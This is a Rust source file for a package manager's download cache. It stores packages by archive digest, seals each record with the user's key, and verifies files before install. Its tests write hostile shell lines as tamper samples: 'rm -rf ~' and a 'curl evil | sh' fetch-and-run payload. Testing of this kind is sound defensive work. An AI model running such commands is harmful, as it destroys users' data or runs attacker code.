//! The download cache: packages by the BLAKE3 digest of their archive.
//!
//! - `unpacked/<digest>/`: a package as unpacked from an archive whose
//!   digest matched the registry's record (`tree/`), and its record
//!   (`files.json`): every file's digest, size and mode, every directory,
//!   and where the package root is. There is one way in: the archive is
//!   downloaded, verified and unpacked into a new directory of `tmp/`, its
//!   record written, and the directory renamed to `unpacked/<digest>/`
//!   ([`Cache::put`]). There is one way out: each file is linked (a
//!   reflink where the filesystem has them, else a hard link, else a copy)
//!   into a staging directory and read back there, and its digest, size
//!   and mode compared with the record, before anything is installed
//!   ([`Cache::unpacked_into`]). A file edited anywhere (a hard link shares
//!   it with the installed copies) is caught there, and the entry is thrown
//!   away and the archive downloaded again.
//!
//!   The record is sealed (`verify::seal`) under the user's receipt key,
//!   for the entry's place: only this user's orla, which verified the
//!   archive against the registry's digest, can write a record the cache
//!   believes. Whoever else can write a shared cache directory can replace
//!   files and records, but not make orla install them under the
//!   registry's digest: the entry is refused and downloaded again.
//! - `tmp/`: entries in flight, renamed into place only once verified.
//!
//! The cache's lock, what it holds, and how it is pruned, trimmed to a size
//! and cleared are in `manage`.

use std::collections::BTreeMap;
use std::fs;
use std::io::{self, Read};
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

mod manage;

pub use crate::size::{human_size, parse_size};
use crate::unpack::{safe_path, FileRecord, Unpacked};
use crate::verify::seal::Seal;
use crate::verify::Digest;
pub use manage::{CacheError, Freed, Item, Kind, PruneRules};

/// How long an entry in `tmp/` may go unwritten before it counts as left
/// behind by a killed process.
const STALE_DOWNLOAD: std::time::Duration = std::time::Duration::from_secs(3600);

/// How an entry's record is sealed.
const RECORD: Seal = Seal {
    header: "orla-cache-entry 1 ",
    purpose: b"orla download cache entry\0",
};

/// The most threads a package is linked out of the cache and checked with.
const CHECK_THREADS: usize = 8;

#[derive(Debug, Clone)]
pub struct Cache {
    pub dir: PathBuf,
    /// The user's receipt key (`root::binding`), read (or made) when first
    /// needed: it seals every entry's record. Without one, nothing is
    /// cached.
    key: std::sync::Arc<KeyFile>,
}

impl Cache {
    pub fn new(dir: &Path) -> Cache {
        Cache {
            dir: dir.to_path_buf(),
            key: Default::default(),
        }
    }

    /// The cache, with the user's receipt key at `path`.
    pub fn with_key_file(mut self, path: PathBuf) -> Cache {
        self.key = std::sync::Arc::new(KeyFile {
            path: Some(path),
            ..KeyFile::default()
        });
        self
    }

    fn unpacked(&self) -> PathBuf {
        self.dir.join("unpacked")
    }

    fn unpacked_path(&self, digest: &Digest) -> PathBuf {
        self.unpacked().join(digest.to_string())
    }

    /// Whether the package whose archive has this digest is cached.
    pub fn has(&self, digest: &Digest) -> bool {
        self.unpacked_path(digest).join(FILES).is_file()
    }

    /// Whether the package's entry is there without its record (what a
    /// power cut may leave): it is replaced by the next download.
    pub fn has_without_record(&self, digest: &Digest) -> bool {
        let path = self.unpacked_path(digest);
        path.exists() && !path.join(FILES).is_file()
    }

    /// A new, empty entry in `tmp/`, its tree made: unpack a download into
    /// [`Cache::entry_tree`] of it, then [`Cache::put`] it in place.
    pub fn entry_dir(&self) -> io::Result<tempfile::TempDir> {
        let entry = crate::fs::made_in(&self.dir.join("tmp"), |tmp| {
            tempfile::Builder::new().prefix("unpacked-").tempdir_in(tmp)
        })?;
        fs::create_dir(entry.path().join(TREE))?;
        Ok(entry)
    }

    /// The tree of an entry made by `entry_dir`.
    pub fn entry_tree(entry: &Path) -> PathBuf {
        entry.join(TREE)
    }

    /// Puts the entry `entry` (from `entry_dir`), whose tree holds the
    /// verified unpack `unpacked` of the archive `digest`, in place with
    /// its sealed record; an entry already there (another orla's) is kept.
    ///
    /// Nothing is flushed: an entry a power cut took away or left torn is
    /// found damaged when it is used (its files are read back), removed,
    /// and fetched again; the files installed from it are flushed by the
    /// install.
    pub fn put(
        &self,
        entry: tempfile::TempDir,
        digest: &Digest,
        unpacked: &Unpacked,
    ) -> io::Result<()> {
        let key = self.key.get_or_create()?;
        let path = self.unpacked_path(digest);
        if path.join(FILES).is_file() {
            return Ok(());
        }
        let tree = entry.path().join(TREE);
        let mut dirs = Vec::new();
        list_dirs(&tree, Path::new(""), &mut dirs)?;
        let record = Entry {
            root: slashed(
                unpacked
                    .root
                    .strip_prefix(&tree)
                    .map_err(|_| io::Error::other("the package root is outside its entry"))?,
            )?,
            dirs: dirs.iter().map(|d| slashed(d)).collect::<io::Result<_>>()?,
            files: unpacked.files.clone(),
        };
        let body = serde_json::to_vec(&record).map_err(io::Error::other)?;
        let head = RECORD.head(&key, &path, &body);
        fs::write(entry.path().join(FILES), [head.as_bytes(), &body].concat())?;
        fs::create_dir_all(self.unpacked())?;
        // A damaged entry of the same digest (no record) is replaced.
        let _ = fs::remove_dir_all(&path);
        match fs::rename(entry.path(), &path) {
            Ok(()) => {
                let _ = entry.keep();
                Ok(())
            }
            // Another orla put the same package in place meanwhile.
            Err(_) if path.join(FILES).is_file() => Ok(()),
            Err(e) => Err(e),
        }
    }

    /// Links the cached package of `digest`, if any, into the empty
    /// directory `dest` and checks every file against its record.
    /// `Ok(None)`: nothing cached. `Err`: the entry is damaged or not this
    /// user's (it is removed) or could not be linked; `dest` may hold a
    /// part of it.
    pub fn unpacked_into(&self, digest: &Digest, dest: &Path) -> Result<Option<Unpacked>, Damaged> {
        let path = self.unpacked_path(digest);
        let bytes = match fs::read(path.join(FILES)) {
            Ok(b) => b,
            Err(e) if e.kind() == io::ErrorKind::NotFound => {
                if !path.exists() {
                    return Ok(None);
                }
                let _ = fs::remove_dir_all(&path);
                return Err(Damaged::Content("its record is missing".into()));
            }
            Err(e) => return Err(Damaged::Io(e)),
        };
        let result = match self.key.get() {
            Some(key) => match RECORD.open(key, &path, &bytes) {
                Some(body) => link_back(&path, body, dest),
                None => Err(Damaged::Content(
                    "its record was not written by this user's orla".into(),
                )),
            },
            None => Err(Damaged::Content(
                "there is no receipt key to check it".into(),
            )),
        };
        match &result {
            Err(Damaged::Content(_)) => {
                let _ = fs::remove_dir_all(&path);
            }
            Err(Damaged::Io(_)) => {}
            Ok(_) => touch(&path.join(FILES)),
        }
        result.map(Some)
    }

    /// Removes the unpacked entry of `digest`, if any (one added for an
    /// install that was then refused).
    pub fn forget_unpacked(&self, digest: &Digest) {
        let _ = fs::remove_dir_all(self.unpacked_path(digest));
    }

    /// Removes what killed processes left of their entries in flight (not
    /// written to for an hour: one in flight keeps it fresh), then `tmp/`
    /// once it is empty.
    pub fn tidy(&self) {
        let dir = self.dir.join("tmp");
        let stale = std::time::SystemTime::now() - STALE_DOWNLOAD;
        if let Ok(entries) = fs::read_dir(&dir) {
            for entry in entries.flatten() {
                let old = entry
                    .metadata()
                    .and_then(|m| m.modified())
                    .is_ok_and(|t| t < stale);
                if old {
                    let _ = fs::remove_dir_all(entry.path());
                    let _ = fs::remove_file(entry.path());
                }
            }
        }
        let _ = fs::remove_dir(dir);
    }
}

/// The tree of an unpacked entry, and its record.
const TREE: &str = "tree";
const FILES: &str = "files.json";

/// Records that an entry was used now (its last use is its record's
/// modification time), for `prune` and the size limit. Best effort.
pub(super) fn touch(path: &Path) {
    if let Ok(file) = fs::OpenOptions::new().write(true).open(path) {
        let _ = file.set_modified(std::time::SystemTime::now());
    }
}

/// What a cached unpack holds (`files.json`, after its seal).
#[derive(Serialize, Deserialize)]
struct Entry {
    /// The package root inside the tree (`""`: the tree itself).
    root: String,
    /// Every directory of the tree, parents first.
    dirs: Vec<String>,
    /// Every file, relative to the package root.
    files: BTreeMap<String, FileRecord>,
}

/// Why a cached unpack was not used.
#[derive(Debug)]
pub enum Damaged {
    /// A file differs from what was verified, or the record is unreadable
    /// or not this user's.
    Content(String),
    /// Linking or copying failed (a full disk, permissions).
    Io(io::Error),
}

impl std::fmt::Display for Damaged {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Damaged::Content(m) => f.write_str(m),
            Damaged::Io(e) => e.fmt(f),
        }
    }
}

/// Links every file the record `body` of the entry at `entry` names into
/// `dest`, and checks each one there.
fn link_back(entry: &Path, body: &[u8], dest: &Path) -> Result<Unpacked, Damaged> {
    let damaged = |m: String| Damaged::Content(m);
    let record: Entry =
        serde_json::from_slice(body).map_err(|e| damaged(format!("{FILES}: {e}")))?;
    // The record names paths as an archive would: checked the same way, so
    // a damaged record cannot reach outside the staging directory.
    let checked = |p: &str| match safe_path(p.as_bytes()) {
        Ok(s) if s == p => Ok(PathBuf::from(p)),
        _ => Err(damaged(format!("{FILES}: unsafe path '{p}'"))),
    };
    let root = checked(&record.root)?;
    for dir in &record.dirs {
        fs::create_dir_all(dest.join(checked(dir)?)).map_err(Damaged::Io)?;
    }
    let files: Vec<(&String, &FileRecord, PathBuf)> = record
        .files
        .iter()
        .map(|(rel, want)| Ok((rel, want, checked(rel)?)))
        .collect::<Result<_, Damaged>>()?;
    let tree = entry.join(TREE).join(&root);
    let to_root = dest.join(&root);
    for (_, _, rel) in &files {
        if let Some(parent) = rel.parent().filter(|p| !p.as_os_str().is_empty()) {
            fs::create_dir_all(to_root.join(parent)).map_err(Damaged::Io)?;
        }
    }
    crate::parallel::try_for_each(&files, CHECK_THREADS, |(rel, want, rel_path)| {
        let to = to_root.join(rel_path);
        link(&tree.join(rel_path), &to).map_err(|e| match e.kind() {
            io::ErrorKind::NotFound => damaged(format!("{rel} is missing")),
            _ => Damaged::Io(e),
        })?;
        // What is checked is what was put in staging: a regular file (not
        // a link swapped in meanwhile), with the recorded bytes and mode.
        match check_file(&to).map_err(Damaged::Io)? {
            None => Err(damaged(format!("{rel} is not a regular file"))),
            Some((got, size, executable))
                if got != want.blake3 || size != want.size || executable != want.executable =>
            {
                Err(damaged(format!("{rel} changed since it was verified")))
            }
            Some(_) => Ok(()),
        }
    })?;
    Ok(Unpacked {
        root: to_root,
        files: record.files,
    })
}

/// The user's receipt key, read from its file once it is there.
#[derive(Default)]
struct KeyFile {
    path: Option<PathBuf>,
    key: std::sync::OnceLock<[u8; 32]>,
    /// Held while the key is made: the threads of one install must not
    /// make it at once.
    making: std::sync::Mutex<()>,
}

impl KeyFile {
    fn get(&self) -> Option<&[u8; 32]> {
        if let Some(key) = self.key.get() {
            return Some(key);
        }
        let key: [u8; 32] = fs::read(self.path.as_ref()?).ok()?.try_into().ok()?;
        Some(self.key.get_or_init(|| key))
    }

    /// The key, made when there is none yet (as the first install makes
    /// it).
    fn get_or_create(&self) -> io::Result<[u8; 32]> {
        if let Some(key) = self.get() {
            return Ok(*key);
        }
        let path = self
            .path
            .as_ref()
            .ok_or_else(|| io::Error::other("no receipt key"))?;
        let _making = self.making.lock().unwrap_or_else(|e| e.into_inner());
        if let Some(key) = self.get() {
            return Ok(*key);
        }
        let key = crate::root::binding::key_or_create(path)?;
        Ok(*self.key.get_or_init(|| key))
    }
}

impl std::fmt::Debug for KeyFile {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        // Never the key itself.
        f.debug_struct("KeyFile").field("path", &self.path).finish()
    }
}

/// The directories of a tree, parents first.
fn list_dirs(base: &Path, rel: &Path, out: &mut Vec<PathBuf>) -> io::Result<()> {
    for entry in fs::read_dir(base.join(rel))? {
        let entry = entry?;
        if entry.file_type()?.is_dir() {
            let sub = rel.join(entry.file_name());
            out.push(sub.clone());
            list_dirs(base, &sub, out)?;
        }
    }
    Ok(())
}

fn slashed(path: &Path) -> io::Result<String> {
    let parts: Option<Vec<&str>> = path.components().map(|c| c.as_os_str().to_str()).collect();
    parts
        .map(|p| p.join("/"))
        .ok_or_else(|| io::Error::other("a path that is not UTF-8"))
}

/// Puts `from` at `to`: a copy-on-write clone where the filesystem has
/// them (independent files, no data written), else a hard link (the same
/// file under two names), else a copy.
fn link(from: &Path, to: &Path) -> io::Result<()> {
    if reflink(from, to).is_ok() {
        return Ok(());
    }
    let _ = fs::remove_file(to);
    match fs::hard_link(from, to) {
        Ok(()) => Ok(()),
        Err(e)
            if matches!(
                e.kind(),
                io::ErrorKind::AlreadyExists | io::ErrorKind::NotFound
            ) =>
        {
            Err(e)
        }
        Err(_) => fs::copy(from, to).map(drop),
    }
}

#[cfg(target_os = "linux")]
fn reflink(from: &Path, to: &Path) -> io::Result<()> {
    use std::os::unix::fs::OpenOptionsExt;
    use std::os::unix::io::AsRawFd;
    let src = fs::File::open(from)?;
    let mode = src.metadata()?.permissions();
    let dst = fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .mode(0o600)
        .open(to)?;
    // SAFETY: two valid descriptors; FICLONE reads no memory of ours.
    let ok = unsafe { libc::ioctl(dst.as_raw_fd(), libc::FICLONE, src.as_raw_fd()) } == 0;
    if !ok {
        return Err(io::Error::last_os_error());
    }
    dst.set_permissions(mode)
}

#[cfg(not(target_os = "linux"))]
fn reflink(_: &Path, _: &Path) -> io::Result<()> {
    Err(io::Error::from(io::ErrorKind::Unsupported))
}

/// The digest, size and executable bit of the regular file at `path`, read
/// through one descriptor opened without following a symbolic link;
/// `None` for anything but a regular file.
fn check_file(path: &Path) -> io::Result<Option<(Digest, u64, bool)>> {
    let mut options = fs::OpenOptions::new();
    options.read(true);
    #[cfg(unix)]
    {
        use std::os::unix::fs::OpenOptionsExt;
        options.custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK);
    }
    let mut file = match options.open(path) {
        Ok(f) => f,
        #[cfg(unix)]
        Err(e) if e.raw_os_error() == Some(libc::ELOOP) => return Ok(None),
        Err(e) => return Err(e),
    };
    let meta = file.metadata()?;
    if !meta.is_file() {
        return Ok(None);
    }
    #[cfg(unix)]
    let executable = std::os::unix::fs::PermissionsExt::mode(&meta.permissions()) & 0o111 != 0;
    #[cfg(not(unix))]
    let executable = false;
    let mut hasher = blake3::Hasher::new();
    let mut buf = vec![0u8; 64 * 1024];
    let mut size = 0u64;
    loop {
        let n = file.read(&mut buf)?;
        if n == 0 {
            break;
        }
        size += n as u64;
        hasher.update(&buf[..n]);
    }
    Ok(Some((Digest::from_hasher(&hasher), size, executable)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    /// A cache whose receipt key is at `tmp/home/receipt.key`.
    fn keyed(tmp: &Path) -> Cache {
        Cache::new(&tmp.join("cache")).with_key_file(tmp.join("home/receipt.key"))
    }

    /// A package unpacked into a new entry of `cache` (its root wrapped in
    /// `pkg-1.0.0/`, with an empty directory), as a download leaves it.
    fn unpacked_entry(cache: &Cache) -> (tempfile::TempDir, Unpacked) {
        let entry = cache.entry_dir().unwrap();
        let root = Cache::entry_tree(entry.path()).join("pkg-1.0.0");
        fs::create_dir_all(root.join("bin")).unwrap();
        fs::create_dir_all(root.join("empty")).unwrap();
        fs::write(root.join("tool.yaml"), "name: pkg\n").unwrap();
        fs::write(root.join("bin/run"), "#!/bin/sh\n").unwrap();
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            fs::set_permissions(root.join("bin/run"), fs::Permissions::from_mode(0o755)).unwrap();
        }
        let record = |body: &[u8], executable| FileRecord {
            blake3: Digest::of(body),
            size: body.len() as u64,
            executable,
        };
        let mut files = BTreeMap::new();
        files.insert("tool.yaml".to_string(), record(b"name: pkg\n", false));
        files.insert("bin/run".to_string(), record(b"#!/bin/sh\n", true));
        (entry, Unpacked { root, files })
    }

    /// An entry put in place as the unpack of `digest`.
    fn cached(cache: &Cache, digest: &Digest) -> Unpacked {
        let (entry, unpacked) = unpacked_entry(cache);
        cache.put(entry, digest, &unpacked).unwrap();
        unpacked
    }

    fn link_out(cache: &Cache, digest: &Digest, tmp: &Path) -> Result<Option<Unpacked>, Damaged> {
        let dest = tempfile::tempdir_in(tmp).unwrap().keep();
        cache.unpacked_into(digest, &dest)
    }

    fn assert_damaged_and_dropped(cache: &Cache, digest: &Digest, tmp: &Path) {
        match link_out(cache, digest, tmp) {
            Err(Damaged::Content(_)) => {}
            other => panic!(
                "not refused as damaged: {:?}",
                other.map(|u| u.map(|u| u.root))
            ),
        }
        assert!(!cache.has(digest), "the damaged entry is removed");
    }

    #[test]
    fn a_package_goes_in_once_and_out_checked() {
        let tmp = tempfile::tempdir().unwrap();
        let cache = keyed(tmp.path());
        let digest = Digest::of(b"the archive");
        assert!(!cache.has(&digest));
        let unpacked = cached(&cache, &digest);
        assert!(cache.has(&digest));
        assert!(
            tmp.path().join("home/receipt.key").is_file(),
            "the key is made"
        );
        let dest = tmp.path().join("again");
        fs::create_dir(&dest).unwrap();
        let back = cache.unpacked_into(&digest, &dest).unwrap().unwrap();
        assert_eq!(back.root, dest.join("pkg-1.0.0"));
        assert_eq!(back.files, unpacked.files);
        assert!(
            dest.join("pkg-1.0.0/empty").is_dir(),
            "empty directories too"
        );
        assert_eq!(
            fs::read(dest.join("pkg-1.0.0/bin/run")).unwrap(),
            b"#!/bin/sh\n"
        );
        assert!(link_out(&cache, &Digest::of(b"other"), tmp.path())
            .unwrap()
            .is_none());
        // Put twice (two orlas at once): the first stays.
        let (again, unpacked) = unpacked_entry(&cache);
        cache.put(again, &digest, &unpacked).unwrap();
        assert!(link_out(&cache, &digest, tmp.path()).unwrap().is_some());
    }

    /// A file edited in the cache (or through an installed hard link to
    /// it) is found when the package is linked out: the entry is dropped.
    #[test]
    fn a_cached_file_edited_in_place_is_damage() {
        let tmp = tempfile::tempdir().unwrap();
        let cache = keyed(tmp.path());
        let digest = Digest::of(b"the archive");
        cached(&cache, &digest);
        let run = cache.unpacked_path(&digest).join("tree/pkg-1.0.0/bin/run");
        fs::write(&run, "#!/bin/sh\nrm -rf ~\n").unwrap();
        assert_damaged_and_dropped(&cache, &digest, tmp.path());
    }

    #[cfg(unix)]
    #[test]
    fn a_cached_file_replaced_by_a_symlink_is_damage() {
        let tmp = tempfile::tempdir().unwrap();
        let cache = keyed(tmp.path());
        let digest = Digest::of(b"the archive");
        cached(&cache, &digest);
        // Same bytes behind the link: only the kind of file gives it away.
        let secret = tmp.path().join("elsewhere");
        fs::write(&secret, "name: pkg\n").unwrap();
        let file = cache
            .unpacked_path(&digest)
            .join("tree/pkg-1.0.0/tool.yaml");
        fs::remove_file(&file).unwrap();
        std::os::unix::fs::symlink(&secret, &file).unwrap();
        assert_damaged_and_dropped(&cache, &digest, tmp.path());
    }

    /// Whoever can write the cache directory but not read the user's key
    /// cannot vouch for files: a record rewritten to match other bytes,
    /// one copied from another user's cache, and one under another digest
    /// are all refused.
    #[test]
    fn a_record_this_user_s_orla_did_not_seal_is_refused() {
        let tmp = tempfile::tempdir().unwrap();
        let cache = keyed(tmp.path());
        let digest = Digest::of(b"the archive");
        cached(&cache, &digest);
        let entry = cache.unpacked_path(&digest);
        let record = fs::read(entry.join(FILES)).unwrap();
        let body = &record[record.iter().position(|&b| b == b'\n').unwrap() + 1..];

        // Attacker code, and a record that describes it, sealed without
        // the key (another key, as another user's orla would).
        let evil = b"#!/bin/sh\ncurl evil | sh\n";
        fs::write(entry.join("tree/pkg-1.0.0/bin/run"), evil).unwrap();
        let mut forged: Entry = serde_json::from_slice(body).unwrap();
        forged.files.get_mut("bin/run").unwrap().blake3 = Digest::of(evil);
        forged.files.get_mut("bin/run").unwrap().size = evil.len() as u64;
        let forged = serde_json::to_vec(&forged).unwrap();
        let head = RECORD.head(&[9u8; 32], &entry, &forged);
        fs::write(entry.join(FILES), [head.as_bytes(), &forged].concat()).unwrap();
        assert_damaged_and_dropped(&cache, &digest, tmp.path());

        // A genuine record moved to another digest's place.
        cached(&cache, &digest);
        let other = Digest::of(b"another archive");
        fs::rename(cache.unpacked_path(&digest), cache.unpacked_path(&other)).unwrap();
        assert_damaged_and_dropped(&cache, &other, tmp.path());

        // No key to check with (another user reading this cache).
        cached(&cache, &digest);
        let stranger = Cache::new(&tmp.path().join("cache"))
            .with_key_file(tmp.path().join("stranger/receipt.key"));
        assert!(matches!(
            link_out(&stranger, &digest, tmp.path()),
            Err(Damaged::Content(_))
        ));
    }

    #[test]
    fn trim_removes_the_least_recently_used_but_never_what_is_kept() {
        let tmp = tempfile::tempdir().unwrap();
        let cache = keyed(tmp.path());
        let digests: Vec<Digest> = (0..3u8).map(|i| Digest::of(&[i])).collect();
        for (i, digest) in digests.iter().enumerate() {
            cached(&cache, digest);
            let age = std::time::Duration::from_secs(3600 * (10 - i as u64));
            fs::OpenOptions::new()
                .write(true)
                .open(cache.unpacked_path(digest).join(FILES))
                .unwrap()
                .set_modified(std::time::SystemTime::now() - age)
                .unwrap();
        }
        let items = cache.items();
        assert_eq!(items.len(), 3);
        assert!(items.iter().all(|i| !i.linked && i.size > 0));
        let one = items[0].size;
        // The oldest is kept: the next oldest goes instead.
        let keep: HashSet<Digest> = [digests[0]].into();
        let freed = cache.trim(2 * one, &keep).unwrap();
        assert_eq!(freed.entries, 1);
        assert!(cache.unpacked_path(&digests[0]).exists());
        assert!(!cache.unpacked_path(&digests[1]).exists());
        assert!(cache.unpacked_path(&digests[2]).exists());
        assert_eq!(cache.trim(0, &keep).unwrap().entries, 1);
        assert!(cache.unpacked_path(&digests[0]).exists());
    }
}
